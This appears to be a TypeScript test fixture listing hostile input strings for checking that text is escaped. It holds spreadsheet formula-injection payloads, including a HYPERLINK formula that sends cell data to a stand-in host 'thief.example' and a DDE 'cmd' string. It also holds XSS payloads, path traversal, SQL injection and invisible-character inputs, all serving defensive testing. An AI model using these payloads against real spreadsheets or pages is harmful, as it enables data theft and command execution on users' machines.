// Text that a spreadsheet takes for a formula, a page for HTML, and nobody can see: what a person or a file may supply anywhere.

/** Each would fetch or show something were it ever a formula. */
export const formulaTexts: readonly string[] = [
  '=HYPERLINK("https://thief.example/"&A1,"小王子")',
  '+IMPORTXML("https://thief.example/","//a")',
  "-1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '  =1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '=1+1\u202e',
  '={1,2;3,4}',
  '=',
  '+',
];

/** Each sets `window.__pwned` or asks the thief's server for something were it ever HTML or script. */
export const scriptTexts: readonly string[] = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '</textarea></title><svg onload=window.__pwned=1>',
  '"><iframe srcdoc="<script>parent.__pwned=1</script>">',
  "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1",
  '&#60;img src=https://thief.example/x&#62;&amp;',
  'javascript:window.__pwned=1',
  '<style>*{background:url(https://thief.example/)}</style>',
  '{{window.__pwned=1}}',
  '<!--<a href="javascript:window.__pwned=1">',
];

/** Names every object has, and letters that cannot be seen, stand alone or turn a line round. */
export const oddTexts: readonly string[] = [
  '__proto__',
  'constructor',
  'toString',
  'a\u0000b',
  'a\u0007\u001b[31mb',
  'a\ud800b',
  'a\udc00',
  '\u202eabc',
  '\u200b',
  '\uffff',
  '😀👩‍👩‍👧',
  'a\u2028b',
  '|'.repeat(30),
  'NaN',
  '1e308',
  'null',
  'undefined',
  '../../etc',
  "'; DROP TABLE",
  '%00%0a',
];

export const everyStrangeText = [...formulaTexts, ...scriptTexts, ...oddTexts];
